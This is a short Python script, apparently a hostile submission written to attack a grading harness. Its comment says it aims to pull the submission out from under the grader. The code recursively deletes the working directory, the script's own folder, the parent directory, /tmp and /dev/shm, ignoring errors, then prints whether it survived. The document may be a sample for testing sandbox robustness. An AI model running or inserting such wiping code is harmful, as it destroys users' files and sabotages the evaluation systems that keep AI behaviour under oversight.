# Tries: to take the submission away under the grader's feet, and whatever lies beside it.
import os
import shutil

here = os.getcwd()
for folder in (here, os.path.dirname(os.path.abspath(__file__)), os.path.dirname(here), "/tmp", "/dev/shm"):
    shutil.rmtree(folder, ignore_errors=True)
print("gone:", not os.path.exists(__file__))
